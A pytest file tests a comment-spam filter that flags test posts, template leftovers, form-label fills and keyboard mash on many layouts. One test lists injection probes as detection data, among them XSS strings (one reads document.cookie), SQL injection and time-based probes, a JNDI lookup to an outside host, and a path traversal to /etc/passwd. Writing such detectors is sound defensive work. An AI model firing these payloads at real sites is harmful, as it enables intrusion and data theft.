"""Test posts, template leftovers and keyboard mash typed on non-Latin layouts."""
# ruff: noqa: RUF001

from __future__ import annotations

import pytest

from commentsvc.spam import CommentSample
from commentsvc.spam.features import extract_signals
from commentsvc.spam.junk import JUNK_FEATURES


def _meta(text: str) -> dict[str, float]:
    """Meta features of a comment with this text."""
    return extract_signals(CommentSample(text)).meta


@pytest.mark.parametrize(
    "text",
    ["test", "testing..... does this work??", "TEST TEST TEST do not approve",
     "ТЕСТ проверка связи 1 2 3", "prueba prueba 123", "Lorem ipsum dolor sit amet"],
)  # fmt: skip
def test_test_posts_are_flagged(text: str) -> None:
    assert _meta(text)["test_post"] == 1.0


@pytest.mark.parametrize(
    "text",
    ["Did you test this on Windows?",
     "I ran the same test last year and the numbers were much worse than these."],
)  # fmt: skip
def test_talk_about_testing_is_no_test_post(text: str) -> None:
    assert "test_post" not in _meta(text)


@pytest.mark.parametrize(
    "text",
    ["{Great|Awesome} {post|article}, thanks for sharing", "{{comment_body}}",
     "Visit %KEYWORD% at %URL%", "[object Object]", "undefined undefined", "null null"],
)  # fmt: skip
def test_template_leftovers_are_flagged(text: str) -> None:
    assert _meta(text)["template_leftover"] == 1.0


@pytest.mark.parametrize(
    "text",
    ["The function returns undefined when the list is empty, see {this} issue.",
     "Prices rose 20% {roughly} last year", "Use dict[str, int] here"],
)  # fmt: skip
def test_code_talk_and_braces_are_no_template(text: str) -> None:
    assert "template_leftover" not in _meta(text)


@pytest.mark.parametrize(
    "text", ["фывапролджэ фывапролджэ", "ςερτυθιοπ ασδφγηξκλ", "ضصثقفغعهخح شسيبلاتنم"]
)
def test_mash_on_other_keyboard_layouts_is_a_walk(text: str) -> None:
    assert _meta(text)["keyboard_walk"] > 0.5


@pytest.mark.parametrize(
    "text",
    ["Спасибо за подробный разбор, у меня тоже ипотека под двенадцать процентов.",
     "Ευχαριστώ πολύ για το άρθρο, πολύ χρήσιμο για τους γονείς."],
)  # fmt: skip
def test_ordinary_text_on_those_layouts_is_no_walk(text: str) -> None:
    assert _meta(text).get("keyboard_walk", 0.0) < 0.1


def test_ordinary_comment_has_no_junk_cues() -> None:
    assert not set(_meta("Thanks, the council vote was explained well.")) & set(JUNK_FEATURES)


@pytest.mark.parametrize(
    "text",
    ["Testing in production is a bad idea.", "Prueba a borrar la caché del navegador",
     "Проверка показала, что всё нормально", "Teste de gravidez deu negativo"],
)  # fmt: skip
def test_sentences_opening_with_a_test_word_are_no_test_post(text: str) -> None:
    assert "test_post" not in _meta(text)


def test_cyrillic_test_word_is_a_test_post() -> None:
    assert _meta("Тест")["test_post"] == 1.0


@pytest.mark.parametrize(
    "text",
    ["Delete %APPDATA%\\Code and restart the editor", "The set {x | x > 0} is open", "null"],
)
def test_paths_set_notation_and_one_word_are_no_template(text: str) -> None:
    assert "template_leftover" not in _meta(text)


def test_korean_keyboard_mash_is_a_walk() -> None:
    assert _meta("ㅂㅈㄷㄱㅅ ㅁㄴㅇㄹㅎ")["keyboard_walk"] > 0.5


@pytest.mark.parametrize(
    ("text", "website"),
    [("<script>alert(1)</script>", ""), ("1' OR '1'='1", ""), ("' or 1=1 --", ""),
     ("<img src=x onerror=alert(document.cookie)>", ""), ("{{7*7}} ${7*7}", ""),
     ("${jndi:ldap://probe.example/a}", ""), ("../../../etc/passwd", ""),
     ("test'); SELECT pg_sleep(5);--", ""), ("admin' UNION SELECT null,null--", ""),
     ("Nice post", "javascript:alert(1)"), ("Nice post", " DATA:text/html,hi")],
)  # fmt: skip
def test_injection_probes_and_script_websites_are_flagged(text: str, website: str) -> None:
    assert extract_signals(CommentSample(text, website=website)).meta["form_probe"] == 1.0


@pytest.mark.parametrize(
    "text",
    ["<script> tags still run in the name field, see the screenshot I sent",
     "Try <script>alert(1)</script> in the name field, it still runs on the preview page",
     "這篇關於 <script> 注入的文章寫得很好，謝謝分享！",
     "<script> タグの説明がとても分かりやすかったです",
     "Recommended: JavaScript: The Good Parts", "Thanks, the <iframe> fix worked!",
     "Missing </script> at the end?", "Try ../../lib/utils.js instead",
     "Don't forget UNION SELECT needs matching columns", "Put it in body onload= instead",
     "Score was 2' or 3 = 5, odd", "I'd say 'no' -- it is fine", "Is <img> allowed here?",
     "Robert'); DROP TABLE Students;--"],
)  # fmt: skip
def test_readers_talking_about_injection_are_no_probe(text: str) -> None:
    assert "form_probe" not in _meta(text)


@pytest.mark.parametrize(
    "text",
    ["aoeuidhtns aoeu htns", "azeaze qsdqsd qsdfghjklm", "qwertzuiopü asdfghjklöä",
     "fgğıod rnhpqw uieaütkmlyş", "שדגכעיחלךף ףףף ךךך"],
)  # fmt: skip
def test_mash_on_dvorak_azerty_qwertz_turkish_and_hebrew_layouts_is_a_walk(text: str) -> None:
    assert _meta(text)["keyboard_walk"] > 0.5


@pytest.mark.parametrize(
    "text",
    ["Thanks for the thorough write-up, the section on insulation was spot on.",
     "Merci pour cet article, je ne savais pas que la mairie avait voté contre.",
     "Danke für den Artikel, die Zahlen zur Miete in Köln überraschen mich nicht.",
     "Yazı için teşekkürler, belediyenin kararı gerçekten şaşırtıcı.",
     "תודה על הכתבה, לא ידעתי שהעירייה הצביעה נגד התוכנית."],
)  # fmt: skip
def test_ordinary_text_in_those_languages_is_no_walk(text: str) -> None:
    assert _meta(text).get("keyboard_walk", 0.0) < 0.1


@pytest.mark.parametrize(
    ("text", "author", "website"),
    [("Great post", "Name *", ""), ("Great post", "Your Name", ""),
     ("Nice", "Nom*", ""), ("Good article", "Anna", "Website"),
     ("Join the discussion…", "Anna", ""), ("Leave a Reply", "", ""),
     ("Schreibe einen Kommentar...", "Jo", ""),
     ("A long comment about the council's vote on the harbour bridge.", "Name *", "Website")],
)  # fmt: skip
def test_fields_filled_with_the_forms_own_labels_are_template_leftovers(
    text: str, author: str, website: str
) -> None:
    sample = CommentSample(text, author=author, website=website)
    assert extract_signals(sample).meta["template_leftover"] == 1.0


@pytest.mark.parametrize(
    ("text", "author", "website"),
    [("Leave a reply if you disagree, I'd like to hear it.", "Anna", ""),
     ("What is the name of the bridge in the second photo?", "Name Tran", ""),
     ("Good article", "Nomi", "https://nomi.example"), ("Comment of the week, this.", "Jo", ""),
     ("Comment !", "Lucie", ""), ("Comment…", "Lucie", ""), ("Hi", "Tu Nom", ""),
     ("A long comment about the council's vote on the harbour bridge.", "Your Name", "")],
)  # fmt: skip
def test_names_and_sentences_that_mention_labels_are_no_leftovers(
    text: str, author: str, website: str
) -> None:
    sample = CommentSample(text, author=author, website=website)
    assert "template_leftover" not in extract_signals(sample).meta


@pytest.mark.parametrize("text", ["asdf фыва пролд", "фывапролджэ qwertyuiop"])
def test_mash_typed_on_two_keyboards_is_a_walk(text: str) -> None:
    assert _meta(text)["keyboard_walk"] > 0.5
